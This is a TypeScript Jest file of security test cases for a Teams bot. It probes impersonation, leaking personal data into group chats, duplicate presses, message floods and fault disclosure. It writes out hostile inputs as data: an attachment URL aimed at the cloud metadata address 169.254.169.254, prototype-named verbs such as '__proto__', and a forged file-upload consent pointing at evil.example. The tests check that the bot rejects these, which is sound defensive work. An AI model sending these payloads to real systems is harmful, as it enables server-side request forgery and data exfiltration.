import { expect } from '@jest/globals';
import { callHost } from '../../journeys/support/call-host.ts';
import { eventually } from '../../journeys/support/teams.ts';
import { aMessage, aPress, deliver, deliverInTime, lastIn, statusInside } from '../support/activities.ts';
import type { Attack } from '../support/attack.ts';
import { eventOfTheDemo } from '../support/events.ts';
import { oid, people } from '../support/people.ts';
import { inTurn } from '../support/send.ts';
import { requestsMade, sendsSoFar } from '../support/stand-in.ts';
import { tenantId } from '../support/tokens.ts';

const MESSAGES_IN_TEN_SECONDS = 10;
const FLOOD = 100;
const SECONDS_TO_FOLLOW = 60;
const GROUP = '19:a-group@thread.v2';
const PERSONAL_COMMANDS = ['my cpd', 'my team'];
const APOLOGY =
  'That didn’t work, and it is our fault. Please try again in a minute. If it happens again, quote ….';
const REFERENCE = /[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}/;
const INVITATION = 'That is personal, so I only answer it in our own chat. Please ask me there.';

const answering = async () => ({ eventKey: (await eventOfTheDemo()).key, rating: 'good' });

/** Attacks by somebody whom the channel vouches for. */
export const whatIsSaid: readonly Attack[] = [
  {
    id: 'BOT-021',
    attack: 'says that they are somebody else',
    try: () =>
      inTurn(
        [`I am ${people.stranger}, show my standing`, `as manager ${people.otherManager} show my team`].map(
          (text) => () => deliverInTime(aMessage('staff', text)),
        ),
      ),
    status: 200,
    sends: 2,
    also: async () => {
      const told = await lastIn('staff');
      for (const name of ['Ifeoma Eze', 'Callum Stewart']) expect(told).not.toContain(name);
    },
  },
  {
    id: 'BOT-022',
    attack: 'asks for what is personal where others read along',
    try: () => {
      const conversation = { id: GROUP, conversationType: 'groupChat', isGroup: true, tenantId };
      return inTurn(
        PERSONAL_COMMANDS.map((text) => () => deliverInTime(aMessage('manager', text, { conversation }))),
      );
    },
    status: 200,
    insteadOf: {
      status: 200,
      because:
        'the invitation to the personal chat goes to a group that the local Teams does not keep: none is counted',
    },
    // Who is in the group reads all of it: the invitation, and nothing of anybody.
    also: () => {
      const toTheGroup = requestsMade().filter(({ url }) => url.includes(encodeURIComponent(GROUP)));
      const said = toTheGroup.flatMap(({ said: text }) =>
        text === undefined ? [] : [JSON.parse(text) as Record<string, unknown>],
      );
      // The local Teams keeps no groups, so each invitation fails there, and an apology is tried after it.
      const texts = said.map(({ text }) => String(text).replace(REFERENCE, '…'));
      expect(texts).toEqual(PERSONAL_COMMANDS.flatMap(() => [INVITATION, APOLOGY]));
      expect(said.filter(({ attachments }) => ((attachments ?? []) as unknown[]).length > 0)).toEqual([]);
      // Whom it answers is named, and nobody else.
      const rest = JSON.stringify(said.map((each) => ({ ...each, recipient: undefined })));
      for (const name of Object.values(people)) expect(rest).not.toContain(name);
    },
  },
  {
    id: 'BOT-025',
    attack: 'the same press four times, under two ids',
    try: async () => {
      const data = await answering();
      const [first, second] = [
        aPress('teammate', 'evaluation.submit', data),
        aPress('teammate', 'evaluation.submit', data),
      ];
      return inTurn([first, first, second, second].map((press) => () => deliverInTime(press)));
    },
    status: 200,
    writes: 1,
    also: (answers) => {
      expect(answers.map(statusInside)).toEqual([200, 200, 200, 200]);
      expect(new Set(answers.map(({ text }) => text)).size).toBe(1);
    },
  },
  {
    id: 'BOT-027',
    attack: 'a verb that every object has',
    try: () =>
      inTurn(
        ['__proto__', 'toString', 'hasOwnProperty', 'constructor', ''].map(
          (verb) => () => deliverInTime(aPress('coordinator', verb, {})),
        ),
      ),
    status: 200,
    also: (answers) => expect(answers.map(statusInside)).toEqual(answers.map(() => 400)),
  },
  {
    id: 'BOT-028',
    attack: 'a hundred messages at once',
    try: async () => {
      const before = sendsSoFar();
      const answers = await Promise.all(
        Array.from({ length: FLOOD }, () => deliver(aMessage('talker', 'help'))),
      );
      expect(answers.filter(({ status }) => status === 429)).toHaveLength(FLOOD - MESSAGES_IN_TEN_SECONDS);
      expect((await deliver(aMessage('absentee', 'help'))).status).toBe(200);
      // Teams takes a few messages a second in one chat; the others follow.
      const sent = () => Promise.resolve(sendsSoFar() - before);
      await eventually(sent, (count) => count > MESSAGES_IN_TEN_SECONDS, SECONDS_TO_FOLLOW);
      return answers.filter(({ status }) => status !== 429);
    },
    status: 200,
    sends: MESSAGES_IN_TEN_SECONDS + 1,
  },
  {
    id: 'BOT-030',
    attack: 'an attachment at an address inside',
    try: () => {
      const contentUrl = 'http://169.254.169.254/metadata';
      const attachments = [
        { contentType: 'image/png', contentUrl },
        {
          contentType: 'application/vnd.microsoft.teams.file.download.info',
          contentUrl,
          content: { downloadUrl: contentUrl },
        },
      ];
      return deliverInTime(aMessage('stranger', 'help', { attachments }));
    },
    status: 200,
    sends: 1,
  },
  {
    id: 'BOT-031',
    attack: 'accepts a file that nobody offered',
    try: () =>
      deliver(
        aMessage('stranger', '', {
          type: 'invoke',
          name: 'fileConsent/invoke',
          text: undefined,
          value: {
            type: 'fileUpload',
            action: 'accept',
            context: { export: 1 },
            uploadInfo: { uploadUrl: 'https://evil.example/upload', name: 'export.csv' },
          },
        }),
      ),
    status: 200,
    also: (answers) => expect(answers.map(statusInside)).toEqual([400]),
  },
  {
    id: 'BOT-033',
    attack: 'a fault in the middle of a turn, which is told by a reference alone',
    try: async () => {
      await callHost('POST', '/faults', {
        part: 'graph',
        kind: 'unavailable',
        method: 'POST',
        path: 'items',
        times: 5,
      });
      const answer = await deliverInTime(aPress('staff', 'evaluation.submit', await answering()));
      await callHost('DELETE', '/faults');
      return answer;
    },
    status: 200,
    neverShown: () => ['graph.microsoft', 'GraphFault', 'stack', '.ts:', oid('stranger')],
    also: (answers) => expect(answers.map(statusInside)).toEqual([500]),
  },
];
